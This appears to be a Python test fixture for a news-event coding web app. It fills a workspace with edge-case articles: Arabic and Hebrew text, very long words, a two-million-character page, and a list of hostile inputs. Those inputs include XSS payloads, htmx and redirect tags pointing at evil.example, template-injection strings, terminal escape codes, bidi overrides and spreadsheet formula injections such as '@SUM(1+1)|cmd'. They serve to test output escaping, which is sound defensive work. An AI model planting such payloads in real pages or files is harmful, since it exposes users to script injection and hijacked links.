"""A workspace made by hand, so that there is a page of every kind at once: no article of it has to be coded."""

from pathlib import Path

from dragoman.records import CodedArticle, Grain, Interval, SavedSearch, Verdict
from dragoman.store import HappeningQuery
from dragoman.workspace import Workspace
from tests.records_made import Page, on, outlet, person, state, unnamed
from tests.unit.quick_coding import WORK
from tests.unit.web.room import COHEN, hostile, visits

AZE, ISR, PER, CHL, TUR = (state(code) for code in ("AZE", "ISR", "PER", "CHL", "TUR"))

DECADE = Interval(edtf="2012~/2022", earliest="2012-01-01", latest="2022-12-31", grain=Grain.YEAR)

SEARCH = SavedSearch(
    id="sch-visits", name="<script>alert(1)</script> Visits", page="/happenings", asked="state=AZE",
    made="2025-05-01T00:00:00Z", looked="2025-05-01T00:00:00Z",
)  # fmt: skip

ARABIC = "وصل وزير الخارجية إلى باكو يوم الثلاثاء، وقالت الوزارة إن الزيارة (الثانية هذا العام) ستستمر 3 أيام."
HEBREW = "השר הגיע לבאקו ביום שלישי, ומשרד החוץ מסר כי הביקור (השני השנה) יימשך 3 ימים."
MIXED = "The ministry wrote “وصل الوزير” and then “השר הגיע”, which is the same sentence twice."


def prepare(folder: Path) -> dict[str, tuple[str, ...]]:
    """Fills a new workspace in a folder: conflicts, decisions, a failure, an id that is no more, hostile articles.

    Gives addresses of pages by the route that shows them: one at least for each route that needs an id.
    """
    folder.mkdir()
    (folder / "dragoman.toml").write_text("jobs = 0\n", encoding="utf-8")
    with Workspace.open(folder, create=True, work=WORK) as workspace:
        right_to_left = foreign()
        plain, rejected = visits()[0], crowded().events[1].id
        for coded in (
            *visits(),
            *breaks(),
            right_to_left.coded(),
            hostile(),
            huge().coded(),
            tricks().coded(),
            crowded().coded(),
        ):
            workspace.store.add(coded, coding="hand")
        workspace.merge()
        (was,) = workspace.store.happenings(HappeningQuery(event=rejected))
        decided = right_to_left.events[0].id
        workspace.store.searches.keep(SEARCH)
        judge(workspace, rejected, Verdict.REJECT)
        judge(workspace, decided, Verdict.CORRECT, field="targets", value="Israel")
        judge(workspace, decided, Verdict.NOTE, note="<script>alert(1)</script> \u202e see the map")
        judge(workspace, decided, Verdict.ACCEPT)
        judge(workspace, decided, Verdict.UNDO)
        workspace.merge()
        (folder / "empty.txt").write_text("\u200b ***", encoding="utf-8")
        workspace.add([folder / "empty.txt"])
        happenings = [one.happening for one in workspace.store.happenings(HappeningQuery(limit=100))]
    differing = next(one.id for one in happenings if one.conflicts)
    texts = (plain, hostile(), *(page.coded() for page in (right_to_left, tricks(), crowded())))
    pair = ("/AZE/ISR", "/PER/CHL")
    return {
            "/articles/{identifier:str}": tuple(f"/articles/{one.article.id}" for one in texts),
            "/pairs/{one:str}/{other:str}": tuple(f"/pairs{one}" for one in pair),
            "/pairs/{one:str}/{other:str}/brief": tuple(f"/pairs{one}/brief" for one in pair),
            "/people/{identifier:str}": (f"/people/{COHEN.id}", "/people/act-evil"),
            "/happenings/of/{event:str}": (f"/happenings/of/{plain.events[0].id}",),
            "/happenings/{identifier:str}": (f"/happenings/{differing}", f"/happenings/{was.happening.id}"),
            "/review/{identifier:str}": tuple(
                f"/review/{one}" for one in (decided, hostile().events[0].id, rejected)
            ),
            "/searches/{identifier:str}": (f"/searches/{SEARCH.id}",),
            "/r/{identifier:str}": (f"/r/{decided}",),
            "/search": (
                "/search?q=azerbaijan+visit+planned+embassy", "/search?state=AZE&act=CONSULT", "/search?q=guest",
                "/search?state=ISR&q=%22%3Cscript%3E%22+since:never",
            ),
            "/review": ("/review?status=ongoing",),
            "/people": ("/people?kind=office", "/people?name=nobody"),
            "/happenings": ("/happenings?state=Fiji",),
            "/add": ("/judge",),  # what cannot be asked for is a page too
    }  # fmt: skip


def judge(workspace: Workspace, record: str, verdict: Verdict, **how: str) -> None:
    """A decision of Ruth's; an undo is of the last one."""
    made = workspace.judgements()
    at = f"2026-11-25T09:00:{len(made):02}+00:00"
    workspace.judge(made[-1].id if verdict is Verdict.UNDO else record, verdict, who="Ruth", at=at, **how)


def breaks() -> tuple[CodedArticle, CodedArticle]:
    """Two articles that differ on when relations broke off."""
    one = Page("More than a decade of freeze ended in 2022.", outlet="Andes Post", published="2025-01-01", title="Thaw")
    one.tie("More than a decade of freeze", (PER, CHL), "frozen", time=DECADE)
    one.tie("ended in 2022", (PER, CHL), change="resumed", time=on("2022"))
    other = Page("Ties broke off in 2018 and resumed in August 2022.", outlet="Coast Daily", published="2025-01-02")
    other.tie("Ties broke off in 2018", (PER, CHL), change="broken_off", time=on("2018"))
    other.tie("resumed in August 2022", (PER, CHL), change="resumed", time=on("2022-08"))
    return one.coded(), other.coded()


def foreign() -> Page:
    """An article whose text is Arabic, Hebrew and both inside English, with marks in each."""
    minister, ministry = person("وزير الخارجية", "AZE", "وزير"), person("משרד החוץ", "ISR")
    page = Page(
        f"{ARABIC}\n\n{HEBREW}\n\n{MIXED}", outlet="صحيفة النهر", published="2026-02-03", title="زيارة إلى باكو"
    )
    page.event(
        "CONSULT", "وصل وزير الخارجية إلى باكو يوم الثلاثاء", [minister], [AZE], mode="visit", place=("باكو", "AZE"),
        time=on("2026-02-03", phrase="يوم الثلاثاء"), chain=(outlet("صحيفة النهر"), unnamed("مصدر")),
    )  # fmt: skip
    page.event("CONSULT", "השר הגיע לבאקו ביום שלישי", [ministry], [AZE], mode="visit", time=on("2026-02-03"))
    return page.says("הביקור (השני השנה) יימשך 3 ימים", ministry).says("وصل الوزير", minister)


def crowded() -> Page:
    """An article with an address and a word too long for any line, mediators and many marks over each other."""
    long = "Oberlandesgerichtspräsidentenwahlausschuss" * 6
    text = f"Azerbaijan brought Israel and Turkey together, {long} said. https://example.org/{'a' * 300} was cited."
    page = Page(text, outlet=long, published="2026-01-01", title=f"{long} and {'x' * 200}")
    words = text[: text.index(" said")]
    for act in ("CONSULT", "AGREE", "COOPERATE", "AID"):
        page.event(act, words, [ISR, TUR], symmetric=True, mediators=[AZE], hosts=[AZE], time=on("2025-12"))
    return page.says(words, person(long, "ISR"))


TRICKS = (
    '<script>document.title = "run"</script>', '<img src="https://evil.example/i" onerror="alert(1)">',
    '<div hx-get="https://evil.example/h" hx-trigger="load" hx-on:load="alert(2)">htmx</div>',
    '<svg onload="alert(3)"><a href="javascript:alert(4)">link</a></svg>', "</title></textarea></style><script src=x>",
    "<iframe srcdoc='<script>alert(5)</script>'></iframe>", '<link rel="stylesheet" href="//evil.example/c">',
    '<meta http-equiv="refresh" content="0; url=https://evil.example/m">', "<base href='https://evil.example/'>",
    "{{ 7 * 7 }} {% include 'x' %} ${alert(6)}", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J\x9b31m",
    "\u202eeslaf\u202c \u2066a\u2069 \u200f\u061c", "👩‍👩‍👧‍👦 🏳️‍🌈 e\u0301\u0301\u0301", '=HYPERLINK("https://evil.example";"x")',
    "@SUM(1+1)|cmd", "https://evil.example/bare javascript:alert(7) data:text/html,<script>alert(8)</script>",
)  # fmt: skip
"""Each would do something somewhere: in a page, by htmx, in a template, a terminal, a spreadsheet, or to the eye."""


def tricks() -> Page:
    """An article with a record for each trick, which is its words, its actors, its place and its time all at once."""
    page = Page("\n".join(TRICKS), outlet=TRICKS[1], published="2026-02-13", title=TRICKS[0] + TRICKS[11])
    for number, trick in enumerate(TRICKS):
        one = person(trick, "ISR", trick)
        page.event(
            "CONSULT", trick, [one], [AZE], mediators=[one], chain=(outlet(trick), unnamed(trick)), place=(trick, None),
            time=Interval(grain=Grain.VAGUE, phrase=trick), status="planned" if number % 2 else "happened",
        )  # fmt: skip
        page.says(trick, one, target=ISR)
    return page.tie(TRICKS[2], (AZE, ISR), quality="close")


def huge() -> Page:
    """An article that is one paragraph of two million characters."""
    text = "Israel thanked Azerbaijan. " + "word " * 400_000
    return Page(text, outlet="The Long Read", published="2026-01-02", title="Two million characters").event(
        "SUPPORT", "Israel thanked Azerbaijan", [ISR], [AZE]
    )
